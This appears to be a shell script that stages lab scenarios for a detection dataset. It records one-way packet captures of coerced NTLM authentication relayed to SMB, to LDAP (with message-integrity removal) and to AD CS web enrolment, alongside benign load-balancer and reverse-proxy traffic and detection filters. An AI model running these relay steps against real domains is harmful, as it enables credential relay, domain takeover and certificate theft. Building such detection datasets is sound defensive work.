# The mirror carries what clients send and nothing that servers answer: one function records one capture.
# No challenge is there, so of a relay only the same response on two flows tells.

CLIENTS_ONLY='tcp and dst portrange 1-1024'

scenario_relay_one_way_smb_smb() {
  callback_with libsmbclient
  record relay_one_way_smb_smb "$CLIENTS_ONLY"
  relay_on smb -t "smb://$FILES"
  efs_call
  sleep 3
  truth "${RELAY[@]}" target=$FILES "${COERCED_SMB[@]}" expect=relay-one-way:smb-smb "$IMPACKET_TOOLS" \
    notes="Coerced and relayed to another server of the same protocol; the mirror carries one direction."
}

scenario_relay_one_way_smb_ldap() {
  callback_with impacket
  record relay_one_way_smb_ldap "$CLIENTS_ONLY"
  relay_on smb -t "ldap://$DC" "${LDAP_QUIET[@]}" --remove-mic
  efs_call
  sleep 3
  truth "${RELAY[@]}" target=$DC "${COERCED_SMB[@]}" expect=relay-one-way:smb-ldap "$IMPACKET_TOOLS" \
    notes="Coerced and relayed to the domain controller's LDAP; the mirror carries one direction."
}

scenario_relay_one_way_smb_http() {
  callback_with libsmbclient
  record relay_one_way_smb_http "$CLIENTS_ONLY"
  relay_on smb -t "http://$CA/certsrv/certfnsh.asp" --adcs --template Machine
  efs_call
  sleep 4
  truth "${RELAY[@]}" target=$CA "${COERCED_SMB[@]}" expect=relay-one-way:smb-http expect=adcs-enrollment "$IMPACKET_TOOLS" \
    notes="Coerced and relayed to web enrolment; the mirror carries one direction."
}

scenario_balancer_one_way() {
  record balancer_one_way "$CLIENTS_ONLY"
  on ws1 smbclient //$PROXY/share "${AS_ALICE[@]}" -c 'ls; get hello.txt /dev/null'
  on ws2 smbclient //$PROXY/share "${AS_BOB[@]}" -c ls
  on ws1 ldbsearch -H ldap://$PROXY "${AS_ALICE[@]}" -b "$BASE_DN" "(cn=$BOB)" cn --option='client ldap sasl wrapping=plain'
  benign "RW-02 RW-05" tools="$SAMBA_CLIENT, $PROXY_VERSION" \
    notes="A TCP load balancer in front of a file server and of LDAP; the mirror carries one direction, so that nothing but the streams themselves shows that they are one."
  shows "ip.src == $PROXY && ntlmssp.messagetype == 3"
}

scenario_reverse_proxy_one_way() {
  record reverse_proxy_one_way "$CLIENTS_ONLY"
  on ws1 "${CURL[@]}" -u "$DOMAIN\\$ALICE:$ALICE_PW" http://$PROXY/app/one -o /dev/null http://$PROXY/app/two
  on ws2 "${CURL[@]}" -u "$DOMAIN\\$BOB:$BOB_PW" http://$PROXY/app/three
  benign "RW-02" tools="$CURL_VERSION, $PROXY_VERSION" \
    notes="A reverse proxy in front of a web server that wants NTLM; the mirror carries one direction."
  shows "ip.src == $PROXY && ntlmssp.messagetype == 3"
}
